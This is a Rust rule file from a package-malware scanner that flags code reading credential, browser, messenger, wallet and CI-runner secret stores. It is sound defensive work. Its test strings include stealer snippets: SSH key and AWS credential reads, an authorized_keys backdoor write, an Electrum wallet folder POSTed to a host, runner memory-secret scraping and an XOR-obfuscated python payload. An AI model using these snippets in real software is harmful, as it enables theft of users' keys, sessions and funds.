//! Rule `sensitive-file-read`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// The code names files that hold credentials: SSH keys, cloud credentials (.aws, gcloud,
    /// .kube, .azure), .git-credentials, .netrc, .docker/config.json, browser profiles (Login
    /// Data, Local State, leveldb stores, `.binarycookies` jars), the session stores of desktop
    /// messengers and games (Telegram `tdata`, Discord's Local Storage, Roblox Studio's session
    /// cookie, Steam's `loginusers.vdf`), wallet files and extension stores, the macOS keychain,
    /// another process's memory. `.npmrc` alone is `medium` (package tools read it), `info` in a
    /// file that runs `npm publish` outside install steps (a release command configuring the npm
    /// CLI, whose publishing `npm-publish` reports); several
    /// kinds together are a stealer's shopping list (`critical`), and so is a store walked and
    /// read file by file in a file that uses the network (a directory copied out whole), and
    /// reading another
    /// process's memory through `/proc/PID/mem` (CI runner secret scraping), or picking the
    /// Actions runner's in-memory secret entries (`"value":…,"isSecret":true`) out of a dump, or
    /// looking for the runner's `Runner.Worker` process. Only a search counts: a wildcard in
    /// the value's place, the process name outside comments and not as a source folder. `.ssh` counts as a
    /// path segment (not `${field}.ssh`), and not when listed for `.pub` files only (a CLI
    /// registering the user's public key); `.npmrc` as a table key, or as a whole literal in a
    /// file that touches no files, is a name (a scaffolder's list of files).
    id: "sensitive-file-read",
    category: Data,
    severity: High,
    capability: Some(crate::model::Capability::FilesystemRead),
    title: "reads credential, browser or wallet files",
    incident: "eslint-scope 3.7.2 read ~/.npmrc (2018); BeaverTail (2023-2025) walks browser and wallet profiles",
    case_file: "index.js",
    flag: ["const f = path.join(os.homedir(), '.ssh', 'authorized_keys'); fs.appendFileSync(f, 'ssh-ed25519 AAAA k@h\\n')",
           "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
           "read(home + '/.aws/credentials')",
           "for (const n of fs.readdirSync(path.join(os.homedir(), '.ssh'))) keys.push(fs.readFileSync(n))",
           "const dir = path.join(os.homedir(), '.aws'); fs.readdirSync(dir)",
           "const home = os.homedir(); const k = fs.readFileSync(`${home}/.ssh/id_ed25519`)",
           "const p = `${local}/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn`",
           "=== index.js\nconst data = require('./data.json');\nconst k = Buffer.from(data[0].id + data[1].id);\nconst x = (h) => Buffer.from(h, 'hex').map((b, i) => b ^ k[i % k.length]).toString();\nrequire('child_process').execFileSync('python3', ['-c', x('2c713f38242c6d736e313e3f2b6e656e2428256777672c2728736d663e326f68')]);\n=== data.json\n[{ \"id\": \"ALPHA\" }, { \"id\": \"BETA\" }]\n",
           "const dump = cp.execSync('sudo python3 memdump.py'); const hits = String(dump).match(/\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}/g)",
           "const pid = require('child_process').execSync('pgrep -f Runner.Worker').toString().trim()",
           "const found = String(out).match(new RegExp('\"[^\"]{1,64}\":\\\\{\"value\":\"[^\"]*\",\"isSecret\":true\\\\}', 'g'))",
           "const parts = ['ssh', 'known_hosts']; const dir = path.join(os.homedir(), '.' + parts[0]); fs.readdirSync(dir)",
           "const out = cp.execSync('reg query \"HKCU\\\\Software\\\\Roblox\\\\RobloxStudioBrowser\\\\roblox.com\" /v .ROBLOSECURITY').toString()",
           "const tg = path.join(appData, 'Telegram Desktop', 'tdata'); fs.readdirSync(tg)",
           "const d = path.join(base, 'discordptb', 'Local Storage', 'leveldb')",
           "const jar = path.join(os.homedir(), 'Library/HTTPStorages/com.Roblox.RobloxPlayer.binarycookies')",
           "const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))"],
    pass: ["// see man sshd: authorized_keys\nfs.writeFileSync(path.join(dir, 'known.json'), '{}')",
           // psl 1.15.0: the public suffix list names domains under the .aws TLD
           "module.exports = [\"s3-website.us-west-2.amazonaws.com\", \"labeling.ap-south-1.sagemaker.aws\", \"ngrok.io\"]",
           "const cfg = readConfig('settings.json')", "// see ~/.config/app/settings.json",
           // wrangler 4.164.0: a config field named ssh in a validation message
           "if ('ssh' in opts) validate(`${field}.ssh`, opts.ssh)",
           // @npmcli/template-oss 5.1.1: the table of files a scaffolder writes
           "module.exports = { '.gitignore': 'gitignore.hbs', '.npmrc': 'npmrc.hbs' }",
           "=== index.js\nconst data = require('./data.json');\nconst k = Buffer.from(data[0].id + data[1].id);\nconst x = (h) => Buffer.from(h, 'hex').map((b, i) => b ^ k[i % k.length]).toString();\nrequire('child_process').execFileSync('python3', ['-c', x('2c713f38242c6d736e313e3f2b6e656e2428256777672c2728736d663e326f68')]);\n=== data.json\n[{ \"id\": \"GAMMA\" }, { \"id\": \"DELTA\" }]\n",
           "// The runner's worker logs go to _diag/Worker_*.log\nconst logs = path.join(runnerRoot, '_diag')",
           "const fields = [{ name: 'apiKey', value: '', isSecret: true }, { name: 'region', value: 'eu', isSecret: false }]",
           // @actions/core 3.0.1: a link to the runner's source tree in a doc comment
           "/**\n * See IssueCommandProperties: https://github.com/actions/runner/blob/main/src/Runner.Worker/ActionCommandManager.cs#L646\n */\nexport function toCommandProperties(p) { return { title: p.title, file: p.file } }",
           "const entry = JSON.parse(`{\"value\":\"${v}\",\"isSecret\":true}`); process.stdout.write(`::add-mask::${entry.value}\\n`)",
           "const ext = '.' + 'sshx'; const f = name + ext",
           // a Roblox API client sends the cookie its user gives it
           "headers.cookie = `.ROBLOSECURITY=${cookie}`; https.get({ host: 'users.roblox.com', headers })",
           "const store = path.join(app.getPath('userData'), 'Local Storage')"],
}

/// (label, pattern) of credential stores.
const TARGETS: &[(&str, &str)] = &[
    (
        "ssh keys",
        // `.ssh` as a path segment (`'.ssh'`, `~/.ssh/`, `${home}/.ssh`), not a property in a
        // message (`${field}.ssh` in wrangler 4.164.0's config validation)
        // A derived string that is the folder's name alone (`'.' + parts[0]` folded to
        // `.ssh`) counts: the folded text carries no quotes.
        r"(?:^|[^\w}$)\].])\.ssh[/\\'\x22`]|(?m:^\.ssh$)|\bid_(rsa|ed25519|ecdsa|dsa)\b",
    ),
    (
        // `.aws` is a directory only as a whole path segment: `'.aws'`, `~/.aws'`; a domain
        // ending in .aws (`"labeling.ap-south-1.sagemaker.aws"` in psl 1.15.0's public suffix
        // list) is not
        "cloud credentials",
        r"\.aws[/\\]credentials|[/\\~'\x22`]\.aws['\x22`]|(?m:^\.aws$)|\.config[/\\]gcloud|application_default_credentials|\.kube[/\\]config|\.azure[/\\]",
    ),
    (
        "git credentials",
        r"\.git-credentials|\.netrc\b|extraheader",
    ),
    ("docker credentials", r"\.docker[/\\]config\.json"),
    (
        "browser profiles",
        r"(?i)Login Data['\x22`]|Local Extension Settings|Local Storage[/\\]+leveldb|Local Storage['\x22`]\s*,\s*['\x22`]leveldb\b|User Data[/\\]+Default|User Data['\x22`]|\.binarycookies\b",
    ),
    (
        // The session stores of desktop messengers and games, as a path or as the pieces of a
        // `path.join`: Telegram's `tdata`, Discord's Local Storage, the Roblox session cookie
        // kept by Roblox Studio (registry key or cookie file), Steam's login files.
        "app sessions",
        r"(?i)Telegram Desktop(['\x22`]\s*,\s*['\x22`]|[/\\]+)tdata\b|\bdiscord(canary|ptb)?(['\x22`]\s*,\s*['\x22`]|[/\\]+)Local Storage\b|RobloxStudioBrowser|com\.roblox\.[\w.]*cookies|loginusers\.vdf",
    ),
    (
        "wallets",
        r"(?i)exodus\.wallet|wallet\.dat|\.config[/\\]solana[/\\]id\.json|keystore[/\\]|electrum(['\x22`]\s*,\s*['\x22`]|[/\\])wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa",
    ),
    ("keychain", r"login\.keychain"),
    (
        "process memory",
        r"/proc/['\x22`+\s$\{\w.]*[/]?mem\b|/proc/\$\{[^}]+\}/mem|/maps['\x22`]",
    ),
    ("shell history", r"\.bash_history|\.zsh_history"),
    (
        // The GitHub Actions runner keeps each secret in memory as
        // `"NAME":{"value":"…","isSecret":true}`: code that looks for that shape is picking
        // secrets out of a dump of the runner's memory (tj-actions/changed-files, Mar 2025).
        // So is looking for the runner's worker process by name (`pgrep -f Runner.Worker`,
        // its `/proc/PID/cmdline`): the one process that holds every secret of the job.
        "CI runner secrets",
        r#"value\\?['"]\s*:.{0,60}?isSecret\\?['"]\s*:\s*true|\bRunner\.Worker\b"#,
    ),
];

/// Whether the match at `start..end` is the whole key of an object literal entry (`'.npmrc':
/// 'npmrc.hbs'`): a scaffolder's table of the files it writes into a project
/// (@npmcli/template-oss 5.1.1), not a read of the user's file.
fn table_key(text: &str, start: usize, end: usize) -> bool {
    let before = text[..start].chars().next_back();
    let after = text[end..].trim_start_matches(['\'', '"']);
    matches!(before, Some('\'' | '"'))
        && text[end..].starts_with(['\'', '"'])
        && after.trim_start().starts_with(':')
}

/// Whether the `.ssh` directory named at `at` is listed for public keys only: a `.pub` filter
/// (`file.endsWith(".pub")`) around it, as CLIs that register the user's key with a
/// service do (wrangler 4.164.0's `containers ssh`). A private key's name (`id_rsa`) is
/// matched on its own.
fn public_keys_only(text: &str, at: usize) -> bool {
    let mut start = at.saturating_sub(600);
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    let mut end = (at + 600).min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let near = text.get(start..end).unwrap_or("");
    // `if (f.endsWith('.pub')) paths.push(…)` keeps the public keys; `if (…) continue` (a
    // stealer skipping them) and `!f.endsWith('.pub')` keep the private ones.
    let keep = crate::regex!(
        r#"(?:\bif\s*\(\s*[\w$.]+\.endsWith\(\s*['"`]\.pub['"`]\s*\)\s*\)|\.filter\(\s*\(?\s*[\w$]+\s*\)?\s*=>\s*[\w$.]+\.endsWith\(\s*['"`]\.pub['"`]\s*\))\s*\{?\s*"#
    );
    keep.find_iter(near).any(|m| {
        let rest = &near[m.end()..];
        !(rest.starts_with("continue") || rest.starts_with("return"))
    })
}

/// Whether a `CI runner secrets` match at `start..end` looks for the runner's secrets rather
/// than naming them. A memory scraper searches a dump for the entry shape with a wildcard where
/// the secret's value sits (`"value":"[^"]*","isSecret":true`, `(.*?)`, `\S+`) and finds the
/// worker process by its name (`pgrep -f Runner.Worker`, a `/proc/PID/cmdline` test). The
/// Actions toolkit and reporters that build their own entries write a value there (an object
/// literal, a template), and link to the runner's source tree (`src/Runner.Worker/…` in a
/// comment): a directory of that name, or any match on a comment line, is no search.
fn runner_secret_search(text: &str, start: usize, end: usize) -> bool {
    let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
    let line = text[line_start..start].trim_start();
    if ["//", "/*", "*", "#"].iter().any(|c| line.starts_with(c)) {
        return false;
    }
    let hit = &text[start..end];
    if hit.starts_with("Runner") {
        return !text[end..].starts_with(['/', '\\']);
    }
    // The text from `value` to `isSecret`: a pattern holds a wildcard in the value's place.
    crate::regex!(r#"\[\^|\[\\|\.[*+]|\\[SswWdD]|\(\?|\(\.|\{\d"#).is_match(hit)
}

/// Whether the match at `start..end` is a whole string literal (`'.npmrc'`), not part of a path
/// or a sentence (`'~/.npmrc'`, "read ~/.npmrc and …").
fn whole_literal(text: &str, start: usize, end: usize) -> bool {
    let before = text[..start].chars().next_back();
    let after = text[end..].chars().next();
    matches!((before, after), (Some(q), Some(r)) if q == r && matches!(q, '\'' | '"' | '`'))
}

/// Whether a parsed file never touches the file system (no `fs` module, no file read or
/// write): its `.npmrc` is a name in a list or table (a scaffolder's list of files to write or
/// remove, @npmcli/template-oss 5.1.1), read, if ever, by another file.
fn names_only(f: &crate::package::FileCtx) -> bool {
    f.js.as_ref().is_some_and(|js| {
        !js.modules.iter().any(|(m, _)| {
            matches!(
                m.as_str(),
                "fs" | "fs/promises" | "fs-extra" | "graceful-fs" | "node:fs"
            )
        }) && !js.calls.iter().any(|c| {
            c.path.starts_with("fs.")
                || c.path.starts_with("fs/promises.")
                || c.path.contains("readFile")
                || c.path.contains("writeFile")
        })
    })
}

/// How far (in bytes) after a directory listing a file read still belongs to the walk.
const WALK_WINDOW: u32 = 1_500;

/// Whether the file walks directories and reads the files it lists: a read within a few lines
/// after a listing (`readdirSync(dir)` … `readFileSync(path.join(dir, name))`). Beside a
/// credential store and network code, that is a store copied out whole. A listing kept to
/// `.pub` files (a CLI offering the user's public keys, then reading the one picked) is none.
fn walks_and_reads(f: &crate::package::FileCtx) -> bool {
    let Some(js) = &f.js else { return false };
    let method = |p: &str| {
        p.strip_prefix("fs.promises.")
            .or_else(|| p.strip_prefix("fs/promises."))
            .or_else(|| p.strip_prefix("fs."))
            .map(str::to_string)
    };
    let lists: Vec<u32> = js
        .calls
        .iter()
        .filter(|c| {
            method(&c.path).is_some_and(|m| m.starts_with("readdir") || m.starts_with("opendir"))
        })
        .map(|c| c.off)
        // A folder listed for its public keys only is not copied out (`public_keys_only`).
        .filter(|&l| !public_keys_only(&f.text, l as usize))
        .collect();
    !lists.is_empty()
        && js.calls.iter().any(|c| {
            method(&c.path).is_some_and(|m| m.starts_with("readFile") || m == "createReadStream")
                && lists.iter().any(|&l| l <= c.off && c.off - l < WALK_WINDOW)
        })
}

fn check(pkg: &Package, out: &mut Emitter) {
    static RES: std::sync::LazyLock<Vec<(&str, crate::rules::gate::Re)>> =
        std::sync::LazyLock::new(|| {
            TARGETS
                .iter()
                .map(|(l, p)| (*l, crate::rules::compile(p)))
                .collect()
        });
    let npmrc = crate::regex!(r"\.npmrc\b");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let text = all_text(f);
        // Planting a key in authorized_keys is a backdoor, never a library's job.
        let authorized_keys = crate::regex!(r#"['"`][^'"`\n]*authorized_keys"#);
        if authorized_keys.is_match(text)
            && let Some(c) = f.js.as_ref().and_then(|js| {
                js.calls
                    .iter()
                    .find(|c| crate::rules::is_file_write(&c.path))
            })
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                c.off,
                "writes an SSH public key into ~/.ssh/authorized_keys (a remote-login backdoor)",
            );
            continue;
        }
        let mut kinds = Vec::new();
        let mut first: Option<usize> = None;
        for (label, re) in RES.iter() {
            let m = if *label == "ssh keys" {
                re.find_iter(text)
                    .find(|m| !public_keys_only(text, m.start()))
            } else if *label == "CI runner secrets" {
                re.find_iter(text)
                    .take(16)
                    .find(|m| runner_secret_search(text, m.start(), m.end()))
            } else {
                re.find(text)
            };
            if let Some(m) = m {
                kinds.push(*label);
                first = Some(first.map_or(m.start(), |f| f.min(m.start())));
            }
        }
        // A name in a table or list, not a read.
        let listed = |start: usize, end: usize| {
            table_key(text, start, end) || whole_literal(text, start, end) && names_only(f)
        };
        let npm = npmrc.find_iter(text).find(|m| !listed(m.start(), m.end()));
        if kinds.is_empty() {
            if let Some(m) = npm {
                let off = f.text_off(m.start(), 0);
                // A release command that runs `npm publish` itself (eslint-release 3.3.0 writes
                // the project's `.npmrc` with a `${NPM_TOKEN}` placeholder, then publishes) is
                // configuring the npm CLI: `npm-publish` reports the publishing.
                let sev = if crate::rules::worm::npm_publish::runs_publish(pkg, f) {
                    Severity::Info
                } else {
                    Severity::Medium
                };
                out.hit_sev(
                    sev,
                    pkg,
                    f,
                    off,
                    "reads the npm configuration (.npmrc), which may hold registry tokens",
                );
            }
            continue;
        }
        if npm.is_some() {
            kinds.push("npm tokens");
        }
        let off = first.map_or(0, |o| f.text_off(o, 0));
        let net = super::has_network(f);
        let sev = if net && (kinds.len() >= 3 || walks_and_reads(f))
            || kinds.contains(&"CI runner secrets")
            || kinds.contains(&"process memory")
                && crate::regex!(
                    r"/proc/\$\{[^}]+\}/mem|/proc/['\x22`]\s*\+\s*\w+\s*\+\s*['\x22`]/mem"
                )
                .is_match(text)
        {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("reads credential stores: {}", kinds.join(", ")),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::model::Severity;
    use crate::rules::testing::{first_severity, run};

    /// A scaffolder's table of the files it writes names `.npmrc` as a key; the same file that
    /// also reads the user's `.npmrc` is still reported.
    #[test]
    fn npmrc_read_beside_a_table_of_written_files_is_still_found() {
        let table = "module.exports = { '.gitignore': 'gitignore.hbs', '.npmrc': 'npmrc.hbs' };\n";
        assert!(run(&super::RULE, "lib/content/index.js", table).is_empty());
        let read = format!(
            "{table}const s = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
        );
        let (severity, hits) = first_severity(&super::RULE, "lib/content/index.js", &read);
        assert_eq!(severity, Some(Severity::Medium), "{hits}");
    }

    /// eslint-release 3.3.0: a release command keeps the project's `.npmrc`, writes one with a
    /// `${NPM_TOKEN}` placeholder and runs `npm publish`; the npm CLI reads the file. The same
    /// read in an install step stays medium.
    #[test]
    fn npmrc_in_a_release_command_that_runs_npm_publish_is_info() {
        let release = "const old = fs.readFileSync('.npmrc', 'utf8'); fs.writeFileSync('.npmrc', '//registry.npm.example/:_authToken=${NPM_TOKEN}'); execSync(`npm publish --tag ${tag}`);\n";
        let (severity, hits) = first_severity(&super::RULE, "lib/release-ops.js", release);
        assert_eq!(severity, Some(Severity::Info), "{hits}");
        let install = format!(
            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"node i.js\"}}}}\n=== i.js\n{release}"
        );
        let (severity, hits) = first_severity(&super::RULE, "i.js", &install);
        assert_eq!(severity, Some(Severity::Medium), "{hits}");
    }

    /// wrangler 4.164.0: `~/.ssh` listed for `.pub` files to register one; a listing that keeps
    /// every file is a key stealer's.
    #[test]
    fn ssh_directory_listed_for_public_keys_only_is_not_a_key_read() {
        let pubs = "const dir = `${os.homedir()}/.ssh`; for (const f of await fs.readdir(dir)) { if (f.endsWith('.pub')) paths.push(`${dir}/${f}`) }";
        let hits = run(&super::RULE, "cli.js", pubs);
        assert!(hits.iter().all(|h| !h.message.contains("ssh")), "{hits:?}");
        let all = pubs.replace("if (f.endsWith('.pub')) ", "");
        let hits = run(&super::RULE, "cli.js", &all);
        assert!(
            hits.iter().any(|h| h.message.contains("ssh keys")),
            "{hits:?}"
        );
        let private = pubs.replace(
            "if (f.endsWith('.pub')) paths",
            "if (f.endsWith('.pub')) continue; paths",
        );
        let hits = run(&super::RULE, "cli.js", &private);
        assert!(
            hits.iter().any(|h| h.message.contains("ssh keys")),
            "{hits:?}"
        );
        let negated = pubs.replace("if (f.endsWith", "if (!f.endsWith");
        let hits = run(&super::RULE, "cli.js", &negated);
        assert!(
            hits.iter().any(|h| h.message.contains("ssh keys")),
            "{hits:?}"
        );
    }

    /// A data-only module listing `.npmrc` among files to remove; the same list beside an `fs`
    /// read is reported.
    #[test]
    fn npmrc_in_a_file_that_touches_no_files_is_a_name() {
        let list = "module.exports = { rm: ['.npmrc', '.eslintrc.js', 'SECURITY.md'] };\n";
        assert!(run(&super::RULE, "lib/content/index.js", list).is_empty());
        let read = format!(
            "const fs = require('fs');\n{list}const t = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8');\n"
        );
        assert!(!run(&super::RULE, "lib/content/index.js", &read).is_empty());
    }

    /// `${field}.ssh` in a message is a config field; `${home}/.ssh` is the key directory.
    #[test]
    fn ssh_counts_only_as_a_path_segment() {
        let field = "throw new Error(`bad ${field}.ssh`); const c = path.join(home, '.aws', 'credentials');";
        let hits = run(&super::RULE, "cli.js", field);
        assert!(hits.iter().all(|h| !h.message.contains("ssh")), "{hits:?}");
        let path = "const k = fs.readFileSync(`${home}/.ssh/config`); const c = path.join(home, '.aws', 'credentials');";
        let hits = run(&super::RULE, "cli.js", path);
        assert!(
            hits.iter().any(|h| h.message.contains("ssh keys")),
            "{hits:?}"
        );
    }
}

#[cfg(test)]
mod runner_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// A toolkit that builds its own secret entries writes a value into the shape, and links to
    /// the runner's `src/Runner.Worker/` folder in comments; a scraper searches a dump with a
    /// wildcard in the value's place, or finds the worker process by name.
    #[test]
    fn runner_secret_shape_counts_only_as_a_search() {
        let own = "const out = [];\nfor (const [k, v] of Object.entries(secrets)) out.push(`\"${k}\":{\"value\":\"${v}\",\"isSecret\":true}`);\nconst obj = { \"value\": token, \"isSecret\": true };\n// the runner's Runner.Worker keeps these; see https://github.com/actions/runner/tree/main/src/Runner.Worker/Handlers\n";
        assert!(run(&super::RULE, "lib/mask.js", own).is_empty());
        let py = "import re\nhits = re.findall(rb'\"([^\"]+)\":\\{\"value\":\"(.*?)\",\"isSecret\":true', open('/tmp/d','rb').read())\n";
        let src = format!(
            "const {{ execSync }} = require('child_process');\nconst out = execSync(`python3 -c \"{}\"`);\n",
            py.replace('\n', ";")
        );
        let hits = run(&super::RULE, "lib/mask.js", &format!("{own}{src}"));
        assert_eq!(
            hits.first().map(|h| h.severity),
            Some(Severity::Critical),
            "{hits:?}"
        );
        let ps = format!(
            "{own}const w = cp.execSync('ps -eo pid,args').toString().split('\\n').find((l) => l.includes('Runner.Worker'));\n"
        );
        let hits = run(&super::RULE, "lib/mask.js", &ps);
        assert_eq!(
            hits.first().map(|h| h.severity),
            Some(Severity::Critical),
            "{hits:?}"
        );
    }
}

#[cfg(test)]
mod walk_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// A CLI listing `~/.ssh` for `.pub` files and reading the one picked, beside network code
    /// and other credential names, registers a public key: not a store copied out.
    #[test]
    fn a_folder_listed_for_public_keys_then_read_is_no_walk() {
        let src = "const fs = require('fs/promises'); const c = path.join(os.homedir(), '.aws', 'credentials'); const n = path.join(process.cwd(), '.npmrc');\n\
            async function keys() { const dir = `${os.homedir()}/.ssh`; const out = []; for (const f of await fs.readdir(dir)) { if (f.endsWith('.pub')) out.push(`${dir}/${f}`) } return out }\n\
            async function add() { const [k] = await keys(); const pub = await fs.readFile(k, 'utf8'); await fetch('https://api.example/keys', { method: 'POST', body: pub }) }";
        let hits = run(&super::RULE, "bin/cli.js", src);
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "{hits:?}"
        );
        let stealer = src.replace("if (f.endsWith('.pub')) ", "");
        let hits = run(&super::RULE, "bin/cli.js", &stealer);
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn a_wallet_folder_walked_and_read_beside_network_code_is_critical() {
        let src = "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))";
        let hits = run(&super::RULE, "index.js", src);
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn a_wallet_folder_only_listed_beside_network_code_stays_high() {
        // A wallet app's helper that counts the wallet files and checks for updates.
        let pad = ".".repeat(1600);
        let src = format!(
            "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const n = fs.readdirSync(w).length; https.get('https://updates.example.com/v', (r) => r.resume());\n/* {pad} */\nconst cfg = fs.readFileSync(path.join(__dirname, 'config.json'));"
        );
        let hits = run(&super::RULE, "index.js", &src);
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "{hits:?}"
        );
    }
}
